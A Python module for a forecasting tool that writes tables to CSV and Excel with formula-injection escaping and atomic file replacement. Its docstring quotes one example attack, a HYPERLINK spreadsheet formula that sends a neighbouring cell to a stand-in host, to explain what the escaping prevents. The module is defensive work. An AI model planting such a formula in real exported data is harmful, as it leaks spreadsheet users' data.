"""The one output writer: tables to CSV or Excel bytes, and bytes to files without surprises.

Every command and export ends here, so the two rules below hold on every path:

**Text is text.** A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a
formula: a series named ``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` would become a
live link that sends the neighbouring cell away. :func:`escape_cell` puts a single quote in front
of such text (OWASP's "CSV Injection" advice), :func:`csv_bytes` and :func:`excel_bytes` apply it
to every text cell and header themselves, so no caller can forget it. The characters, and where
they come from:

* ``=`` ``+`` ``-`` ``@``, tab (``\\t``) and carriage return (``\\r``): OWASP's list (the same six
  as the Symfony CVE-2021-41270 fix and csv-stringify's ``escape_formulas``);
* NUL (``\\0``): OWASP ASVS requirement 1.2.10 adds it;
* the full-width forms ``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20): not in OWASP's list (we
  found no OWASP page naming them); escaped as a precaution, since they read as formula signs
  and a quote in front of text costs nothing;
* the same characters after leading spaces or line breaks (``"  =1+1"``), which some
  spreadsheet importers trim before deciding.

Numbers, negative ones included, dates and booleans are never escaped: they stay numbers. In a
workbook every text cell is stored as text (openpyxl ``data_type`` ``"s"``), never as a formula;
characters a workbook cannot hold (ESC and other controls) are written visibly (``\\x1b``), and
text longer than Excel's 32,767 characters per cell is cut there with a final ``…``.

**A file is replaced whole or not at all.** :func:`write_output` (one file) and
:func:`write_outputs` (several: ``plan.csv``, ``plan_summary.csv``...) refuse, before writing
anything, a target that is one of the command's input files (by any spelling: relative,
absolute, through a symbolic or hard link) or that already exists unless ``force=True``; they
write each file to a temporary file in the target's folder, flush it to disk (``fsync``) and
rename it into place (``os.replace``), so a full disk or a crash leaves the previous file intact
and no half-written file behind. Refusals and failures are :class:`~forecast.errors.OutputError`
(a ``ValueError``) sentences naming the file. The app's downloads take the bytes directly and
are not affected.
"""
from __future__ import annotations

import datetime as _dt
import errno
import io
import os
import re
import secrets
import stat
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from forecast.errors import OutputError, visible

__all__ = ["FORMULA_TRIGGERS", "escape_cell", "escape_frame", "csv_bytes", "excel_bytes", "write_output",
           "write_outputs", "sibling_path"]

#: first characters that make a spreadsheet read text as a formula (see the module docstring)
FORMULA_TRIGGERS = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")

_EXCEL_MAX_TEXT = 32_767  # characters in one cell
_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def escape_cell(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: text whose first character, or first after leading
    whitespace, is in :data:`FORMULA_TRIGGERS` gets a leading single quote (``'=1+1``); anything
    that is not text (numbers, negative ones included, dates, None) is returned unchanged."""
    if isinstance(value, str) and value and (value[0] in FORMULA_TRIGGERS or value.lstrip()[:1] in FORMULA_TRIGGERS):
        return "'" + value
    return value


def _storable(value: Any) -> Any:
    """:func:`escape_cell`, control characters a workbook cannot hold (ESC, NUL...; tab and line
    breaks are kept) written visibly as ``\\x1b``, and line breaks as ``\\n``, the same in CSV and
    Excel."""
    value = escape_cell(value)
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        value = ILLEGAL_CHARACTERS_RE.sub(lambda m: visible(m.group()), value)
        if "\r" in value:  # the csv module quotes "\n" but not a lone "\r", which readers take for a row end
            value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def _is_text_column(col: pd.Series) -> bool:
    dtype = col.dtype
    return (dtype == np.dtype(object) or isinstance(dtype, pd.CategoricalDtype)
            or (pd.api.types.is_string_dtype(dtype) and not pd.api.types.is_datetime64_any_dtype(dtype)))


def escape_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with :func:`escape_cell` applied to every header and every text cell
    (object, string and categorical columns; cells of other types in an object column are left as
    they are), and control characters other than tab and line breaks written visibly (``\\x1b``).
    The index is dropped (reset it first to keep it). Linear in the number of cells."""
    out = frame.reset_index(drop=True)
    escaped = {}
    for k, _col in enumerate(out.columns):
        series = out.iloc[:, k]
        if _is_text_column(series):
            series = series.astype(object).map(_storable)
        escaped[k] = series
    result = pd.DataFrame(escaped)
    result.columns = [_storable(str(c)) for c in out.columns]
    return result


def csv_bytes(
    frame: pd.DataFrame,
    *,
    sep: str = ",",
    decimal: str = ".",
    encoding: str = "utf-8",
    float_format: str | None = None,
    date_format: str | None = None,
    lineterminator: str = "\n",
) -> bytes:
    """``frame`` as CSV bytes, header row first, formula-like text escaped (:func:`escape_frame`).

    ``sep``/``decimal``: ``","``/``"."`` by default; French-locale Excel reads ``";"``/``","``
    (with ``encoding="utf-8-sig"`` so it recognises UTF-8). ``float_format`` (``"%.2f"``) and
    ``date_format`` (``"%Y-%m-%d %H:%M"``) as in :meth:`pandas.DataFrame.to_csv`; tz-aware
    timestamps keep their offset. Line breaks inside text are written as ``\\n`` in a quoted field
    (a lone ``\\r`` would end the row for most readers). The index is not written. Returns the
    encoded bytes.
    """
    text = escape_frame(frame).to_csv(index=False, sep=sep, decimal=decimal, float_format=float_format,
                                      date_format=date_format, lineterminator=lineterminator)
    return text.encode(encoding)


def _excel_value(value: Any) -> Any:
    """A cell value openpyxl writes as the right type; text escaped and made storable."""
    if value is None or value is pd.NaT:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and value != value:
        return None
    if isinstance(value, (pd.Timestamp, _dt.datetime)):
        if value.tzinfo is not None:  # Excel has no time zones: the wall-clock time in its own zone
            value = value.replace(tzinfo=None)
        return value.to_pydatetime() if isinstance(value, pd.Timestamp) else value
    if isinstance(value, pd.Timedelta):
        return value.to_pytimedelta()
    if isinstance(value, (bool, int, float, _dt.date, _dt.time, _dt.timedelta)):
        return value
    text = _storable(value if isinstance(value, str) else str(value))
    if len(text) > _EXCEL_MAX_TEXT:
        text = text[: _EXCEL_MAX_TEXT - 1] + "…"
    return text


def _sheet_titles(names: Iterable[str]) -> list[str]:
    """Names Excel accepts: no ``[]:*?/\\``, at most 31 characters, not blank, unique ignoring case."""
    titles: list[str] = []
    for name in names:
        base = _SHEET_FORBIDDEN.sub("_", visible(str(name))).strip("'").strip() or "Sheet"
        title, k = base[:31], 2
        while title.lower() in (t.lower() for t in titles):
            suffix = f" ({k})"
            title, k = base[: 31 - len(suffix)] + suffix, k + 1
        titles.append(title)
    return titles


def excel_bytes(
    sheets: Mapping[str, pd.DataFrame],
    *,
    number_formats: Mapping[str | tuple[str, str], str] | None = None,
    datetime_format: str = "yyyy-mm-dd hh:mm",
    freeze_header: bool = True,
) -> bytes:
    """An .xlsx workbook, one sheet per ``{name: frame}`` in order, as bytes.

    Each sheet: a bold header row (frozen when ``freeze_header``), then one row per frame row
    (the index is not written). Numbers stay numbers and dates dates; tz-aware timestamps are
    written as their wall-clock time (Excel has no time zones) with ``datetime_format``; NaN and
    NaT are empty cells. Text cells are escaped (:func:`escape_cell`) and stored as text, never as
    formulas. ``number_formats`` maps a column header, or a ``(sheet name, header)`` pair for one
    sheet only, to an Excel number format applied to that column's numbers, e.g.
    ``{"yhat": "# ##0,0", ("Summary", "share"): "0.0%"}`` (the format codes are Excel's own;
    a French-locale export passes its own). Sheet names are made acceptable to Excel (see
    :func:`_sheet_titles`). Column widths fit the first 1,000 rows.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    if not sheets:
        raise ValueError("sheets: expected at least one {name: DataFrame}")
    formats = dict(number_formats or {})
    wb = Workbook(write_only=True)
    bold = Font(bold=True)
    for title, (name, frame) in zip(_sheet_titles(sheets), sheets.items()):
        if not isinstance(frame, pd.DataFrame):
            raise ValueError(f"sheets[{name!r}]: expected a DataFrame, got {type(frame).__name__}")
        ws = wb.create_sheet(title=title)
        headers = [str(c) for c in frame.columns]
        columns = [frame.iloc[:, k].tolist() for k in range(frame.shape[1])]
        col_formats = [formats.get((str(name), h), formats.get(h)) for h in headers]
        dated = [pd.api.types.is_datetime64_any_dtype(frame.iloc[:, k].dtype) for k in range(frame.shape[1])]
        widths = [len(h) for h in headers]
        for c, column in enumerate(columns):
            for v in column[:1000]:
                widths[c] = max(widths[c], 16 if dated[c] else len(str(v)))
            ws.column_dimensions[get_column_letter(c + 1)].width = min(max(widths[c] + 2, 8), 60)
        if freeze_header:
            ws.freeze_panes = "A2"
        header_row = []
        for h in headers:
            cell = WriteOnlyCell(ws, value=_excel_value(h))
            cell.font = bold
            header_row.append(cell)
        ws.append(header_row)
        for r in range(len(frame)):
            row = []
            for c, column in enumerate(columns):
                value = _excel_value(column[r])
                fmt = datetime_format if isinstance(value, _dt.datetime) else (
                    col_formats[c] if isinstance(value, (int, float)) and not isinstance(value, bool) else None)
                if fmt is None:
                    row.append(value)
                else:
                    cell = WriteOnlyCell(ws, value=value)
                    cell.number_format = fmt
                    row.append(cell)
            ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


# ------------------------------------------------------------------------------------------------
# files: checked first, then written whole through a temporary file


def sibling_path(path: str | Path, part: str) -> Path:
    """The file beside ``path`` for one more table: ``sibling_path("out/plan.csv", "summary")`` is
    ``out/plan_summary.csv`` (suffix ``.csv`` when ``path`` has none)."""
    p = Path(path)
    return p.with_name(f"{p.stem}_{part}{p.suffix or '.csv'}")


def _same_file(a: Path, b: Path) -> bool:
    try:
        if a.exists() and b.exists():
            return os.path.samefile(a, b)  # also hard links and case-insensitive spellings
    except OSError:
        pass
    return a.resolve() == b.resolve()


def _check_targets(targets: list[Path], labels: list[str], inputs: list[str | Path], force: bool) -> None:
    for k, (target, label) in enumerate(zip(targets, labels)):
        for given in inputs:
            if _same_file(target, Path(given)):
                raise OutputError(f"{label} is also an input of this command ({given}); writing it would destroy "
                                  "the input: choose another output name", path=label)
        for other, other_label in zip(targets[:k], labels[:k]):
            if _same_file(target, other):
                raise OutputError(f"{label} and {other_label} are the same file; give each output its own name",
                                  path=label)
        if target.is_dir():
            raise OutputError(f"{label} is a folder; give a file name such as {Path(label) / 'plan.csv'}", path=label)
    if not force:
        existing = [label for target, label in zip(targets, labels) if target.exists() or target.is_symlink()]
        if existing:
            names = existing[0] if len(existing) == 1 else ", ".join(existing[:-1]) + f" and {existing[-1]}"
            verb = "exists" if len(existing) == 1 else "exist"
            raise OutputError(f"{names} already {verb}; nothing was written: choose another output name, or "
                              "replace with force=True (queuecast: --force)", path=existing[0])


def _fsync_dir(folder: Path) -> None:
    try:
        fd = os.open(folder, os.O_RDONLY)
    except OSError:  # not possible on every platform (Windows): the rename is still atomic
        return
    try:
        os.fsync(fd)
    except OSError:
        pass
    finally:
        os.close(fd)


def _write_temp(target: Path, data: bytes) -> Path:
    """``data`` in a new hidden file beside ``target``, flushed to disk; removed again on failure."""
    target.parent.mkdir(parents=True, exist_ok=True)
    while True:
        tmp = target.with_name(f".{target.name}.{secrets.token_hex(4)}.tmp")
        try:
            fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_BINARY", 0), 0o666)
            break
        except FileExistsError:
            continue
    try:
        view = memoryview(data)
        while view:
            view = view[os.write(fd, view[: 1 << 20]):]
        os.fsync(fd)
    except BaseException:
        os.close(fd)
        tmp.unlink(missing_ok=True)
        raise
    os.close(fd)
    return tmp


def _put_in_place(tmp: Path, target: Path, label: str, force: bool) -> None:
    if target.exists():
        try:  # a replaced file keeps its permissions
            os.chmod(tmp, stat.S_IMODE(os.stat(target).st_mode))
        except OSError:
            pass
    if force:
        os.replace(tmp, target)
        return
    try:  # link() refuses an existing name atomically, even one created since the checks
        os.link(tmp, target)
    except FileExistsError:
        tmp.unlink(missing_ok=True)
        raise OutputError(f"{label} appeared while it was being written; nothing was replaced: choose another "
                          "output name, or replace with force=True (queuecast: --force)", path=label) from None
    except OSError:  # file systems without hard links (FAT, some network shares)
        if target.exists():
            tmp.unlink(missing_ok=True)
            raise OutputError(f"{label} appeared while it was being written; nothing was replaced",
                              path=label) from None
        os.replace(tmp, target)
        return
    tmp.unlink()


def write_outputs(
    files: Mapping[str | Path, bytes],
    *,
    inputs: Iterable[str | Path] = (),
    force: bool = False,
) -> list[Path]:
    """Write several files as one step: ``{path: bytes}`` in order; returns the paths written.

    Every target is checked before any is written (not an input, not a folder, no two the same;
    none existing unless ``force``), then each is written to a temporary file beside it and only
    when all are on disk are they renamed into place; a failure (a full disk) removes the
    temporary files and leaves every previous file as it was. Folders are created as needed.

    Raises :class:`~forecast.errors.OutputError` naming the file (a ``ValueError``).
    """
    labels = [str(p) for p in files]
    targets = [Path(p) for p in files]
    payloads = list(files.values())
    for label, data in zip(labels, payloads):
        if not isinstance(data, (bytes, bytearray, memoryview)):
            raise TypeError(f"files[{label!r}]: expected bytes, got {type(data).__name__}")
    _check_targets(targets, labels, list(inputs), force)
    temps: list[Path] = []
    try:
        for target, label, data in zip(targets, labels, payloads):
            try:
                temps.append(_write_temp(target, bytes(data)))
            except OSError as exc:
                reason = exc.strerror or str(exc)
                hint = " (is the disk full?)" if exc.errno in (errno.ENOSPC, errno.EDQUOT) else ""
                kept = "the previous file is unchanged" if target.exists() else "nothing was written"
                others = "; no other output was written either" if len(targets) > 1 else ""
                raise OutputError(f"could not write {label}: {reason}{hint}; {kept}{others}", path=label) from exc
        for k, (tmp, target, label) in enumerate(zip(temps, targets, labels)):
            try:
                _put_in_place(tmp, target, label, force)
            except OSError as exc:
                done = ", ".join(labels[:k])
                raise OutputError(f"could not put {label} in place: {exc.strerror or exc}"
                                  + (f"; already written: {done}" if done else "; nothing was replaced"),
                                  path=label) from exc
    finally:
        for tmp in temps:
            tmp.unlink(missing_ok=True)
    for folder in {t.parent for t in targets}:
        _fsync_dir(folder)
    return targets


def write_output(path: str | Path, data: bytes, *, inputs: Iterable[str | Path] = (), force: bool = False) -> Path:
    """Write ``data`` to ``path`` whole or not at all; returns the path. See :func:`write_outputs`:
    refuses an input file (any spelling) and, without ``force``, an existing file; writes a
    temporary file in the same folder, fsyncs it and renames it into place, so a failure leaves
    the previous file intact. Raises :class:`~forecast.errors.OutputError` naming the file."""
    return write_outputs({path: data}, inputs=inputs, force=force)[0]
